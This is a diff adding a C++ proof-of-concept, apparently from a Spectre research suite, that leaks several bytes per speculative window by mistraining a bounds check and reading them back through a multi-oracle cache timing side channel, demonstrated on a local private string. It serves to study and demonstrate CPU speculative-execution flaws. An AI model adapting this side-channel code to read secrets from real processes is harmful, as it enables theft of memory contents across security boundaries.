@@ -0,0 +1,114 @@
+/*
+ * Copyright 2020 Google LLC
+ *
+ * Licensed under both the 3-Clause BSD License and the GPLv2, found in the
+ * LICENSE and LICENSE.GPL-2.0 files, respectively, in the root directory.
+ *
+ * SPDX-License-Identifier: BSD-3-Clause OR GPL-2.0
+ */
+
+/**
+ * spectre_v1_pht_sa leaking several consecutive bytes per speculative window.
+ * The mispredicted bounds check guards K loads instead of one, and each byte
+ * is encoded into its own oracle of a MultiTimingArray. Where the speculative
+ * window is wide enough for all K loads, every round yields up to K bytes.
+ *
+ *     spectre_v1_pht_multi [oracles]
+ *
+ * K defaults to 4.
+ **/
+
+#include <array>
+#include <cstdlib>
+#include <cstring>
+#include <iostream>
+#include <memory>
+#include <vector>
+
+#include "bounds_check_kernel.h"
+#include "cpu_isolation.h"
+#include "local_content.h"
+#include "multi_timing_array.h"
+
+// Rounds that must see the same value in an oracle before it is taken.
+static const int kAgreeingRounds = 2;
+
+// Leaks the oracles.oracles() bytes physically located at &data[0] + offset
+// onwards. Returns them and adds the number of speculative rounds it took to
+// `rounds`.
+static std::vector<char> LeakBytes(MultiTimingArray &oracles, const char *data,
+                                   size_t offset, int *rounds) {
+  const size_t count = oracles.oracles();
+  // The bounds check covers the whole window: offset + count - 1 < size.
+  std::unique_ptr<size_t> size_in_heap(new size_t(strlen(data)));
+  std::vector<char> leaked(count);
+  std::vector<bool> found(count, false);
+  // How many rounds saw each value, per oracle.
+  std::vector<std::array<int, 256>> votes(count);
+  for (std::array<int, 256> &oracle_votes : votes) {
+    oracle_votes.fill(0);
+  }
+  size_t remaining = count;
+
+  for (int run = 0; remaining > 0; ++run) {
+    oracles.FlushFromCache();
+    // A different in-bounds window every time, see spectre_v1_pht_sa.
+    size_t safe_offset = run % (strlen(data) - count + 1);
+
+    BoundsCheckKernel<char, 2048>::Run(data, size_in_heap.get(), oracles,
+                                       safe_offset, offset);
+    ++*rounds;
+
+    // Every oracle holds the in-bounds byte of its position and, if the window
+    // reached that far, the leaked one. A single scan can also pick up noise,
+    // so a byte is only taken once two rounds agree on it.
+    for (size_t k = 0; k < count; ++k) {
+      if (found[k]) {
+        continue;
+      }
+      int ret = oracles.FindFirstCachedElementIndexAfter(
+          k, data[safe_offset + k]);
+      if (ret >= 0 && ret != data[safe_offset + k] &&
+          ++votes[k][ret] >= kAgreeingRounds) {
+        leaked[k] = ret;
+        found[k] = true;
+        --remaining;
+      }
+    }
+
+    if (run > 100000) {
+      std::cerr << "Does not converge" << std::endl;
+      exit(EXIT_FAILURE);
+    }
+  }
+  return leaked;
+}
+
+int main(int argc, char *argv[]) {
+  size_t count = argc > 1 ? std::atoi(argv[1]) : 4;
+  if (count < 1 || count > strlen(public_data) ||
+      count > OracleArena::kColors) {
+    std::cerr << "Usage: " << argv[0] << " [oracles]" << std::endl;
+    return EXIT_FAILURE;
+  }
+
+  CpuIsolation isolation;
+  isolation.PrintReport(std::cout);
+  MultiTimingArray oracles(count);
+
+  std::cout << "Leaking the string: ";
+  std::cout.flush();
+  const size_t private_offset = private_data - public_data;
+  int rounds = 0;
+  for (size_t i = 0; i < strlen(private_data); i += count) {
+    std::vector<char> bytes =
+        LeakBytes(oracles, public_data, private_offset + i, &rounds);
+    for (size_t k = 0; k < count && i + k < strlen(private_data); ++k) {
+      std::cout << bytes[k];
+    }
+    std::cout.flush();
+  }
+  std::cout << "\nDone! " << rounds << " speculative rounds for "
+            << strlen(private_data) << " bytes with " << count
+            << " oracles.\n";
+}